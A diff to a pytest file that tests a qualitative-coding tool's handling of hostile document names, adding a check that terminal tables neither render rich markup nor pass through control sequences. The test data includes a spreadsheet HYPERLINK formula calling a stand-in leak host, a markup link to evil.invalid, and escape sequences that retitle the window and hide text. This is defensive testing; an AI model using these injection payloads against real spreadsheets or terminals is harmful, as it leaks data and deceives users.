@@ -17,8 +17,9 @@ from pathlib import Path
 import openpyxl
 import pytest
 
+from qualcode.cli import app
 from qualcode.export.cells import FORMULA_START
-from tests.hostile.export_kit import build_project, run
+from tests.hostile.export_kit import build_project, run, runner
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?leak","click")',
@@ -92,3 +93,21 @@ def test_csv_on_stdout_is_neutralised_too(hostile: tuple, command: str) -> None:
     assert not [c for c in cells if c.startswith(FORMULA_START)]
     if command != "code-list":
         assert any(c.startswith("'") and payload.strip("\r\n") in c for c in cells)
+
+
+TERMINAL_NAMES = {
+    "rich-markup": "[bold red]x[/] [link=https://evil.invalid]click[/link]",
+    "escape-sequence": "a\x1b]0;retitled\x07b\x1b[8mhidden",
+}
+
+
+@pytest.mark.parametrize("name", list(TERMINAL_NAMES.values()), ids=list(TERMINAL_NAMES))
+def test_terminal_tables_show_names_as_they_are(tmp_path: Path, name: str) -> None:
+    """A table on the terminal neither obeys rich markup in a name nor passes on the
+    control sequences in it (window title, hidden text)."""
+    project = build_project(tmp_path / "p.db", name)
+    result = runner.invoke(app, ["-p", str(project), "docs", "list"], env={"COLUMNS": "400"})
+    assert result.exit_code == 0, result.stderr
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    shown = name.replace("\x1b", "\ufffd").replace("\x07", "\ufffd")
+    assert f"{shown}.txt" in result.stdout
